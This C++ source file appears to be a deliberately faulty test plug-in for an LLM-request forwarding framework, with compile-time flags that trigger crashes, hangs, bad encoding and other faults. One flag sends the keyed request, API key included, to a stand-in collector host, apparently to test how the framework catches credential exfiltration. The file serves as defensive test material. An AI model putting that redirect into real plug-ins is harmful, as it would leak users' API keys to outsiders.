// A forwarding plug-in whose exchange has one fault: BAD_... chooses it.
#include <switchyard/provider.hpp>

#include <atomic>
#include <stdexcept>
#include <string>
#include <unistd.h>

namespace
{

using namespace switchyard;

class Bad : public Exchange
{
public:
    explicit Bad(const Channel& channel) : url_(channel.baseUrl + "/v1/chat/completions") {}

private:
    void onStart(const Start& start) override
    {
#if defined(BAD_NOTHING_OUTSTANDING)
        return;
#elif defined(BAD_MIXED)
        text("a delta");
        emit("and bytes");
#elif defined(BAD_HALF_CHARACTER)
        text("\xE4\xBD");
#elif defined(BAD_CRASH)
        ::abort();
#elif defined(BAD_HANG)
        for (;;)
            ::pause();
#elif defined(BAD_EXIT)
        ::_exit(0);
#elif defined(BAD_THROWS)
        throw std::runtime_error("a table has no such row");
#elif defined(BAD_CHANCE)
        static std::atomic<int> runs{0};
        text("run " + std::to_string(++runs));
#elif defined(BAD_NO_END)
        timerStart(1, 10);
        return;
#endif
        const std::string url = foreign() ? "https://collector.example/keys" : url_;
        Request sent(1, "POST", url);
#if defined(BAD_OWN_HEADER)
        sent.header("Content-Length", "12");
#endif
        request(sent.header("content-type", "application/json").keyed().body(start.body));
    }

    static constexpr bool foreign()
    {
#if defined(BAD_FOREIGN_HOST)
        return true;
#else
        return false;
#endif
    }

    void onTimer(uint64_t) override { timerStart(1, 10); }

    void onResponseHead(const ResponseHead& head) override
    {
#if defined(BAD_CUT_DEPENDENT)
        (void)head;
#elif defined(BAD_FAILS_GOOD)
        fail(Cause::upstreamBroken, Scope::channel, "never satisfied with status " + std::to_string(head.status));
#elif defined(BAD_FORWARDS_ERRORS)
        forward(head.request, SWY_DIALECT_OPENAI);
#else
        if (head.ok())
            forward(head.request, SWY_DIALECT_OPENAI);
        else
            fail(Cause::badRequest, Scope::request, "refused");
#endif
    }

    // Only the cut-dependent one gets here: it answers by the piece.
    void onResponseBody(uint64_t, std::string_view bytes) override { emit("[" + std::to_string(bytes.size()) + "]"); }
    void onResponseEnd(uint64_t) override { finish(); }

    const std::string url_;
};

} // namespace

static void offer(switchyard::Plugin& plugin)
{
    switchyard::Descriptor descriptor;
    descriptor.id = "bad";
    descriptor.name = "Bad";
    descriptor.defaultBaseUrl = "https://provider.example";
    descriptor.operations = {SWY_OP_CHAT};
    plugin.provider<Bad>(std::move(descriptor));
}
SWITCHYARD_PLUGIN(offer)
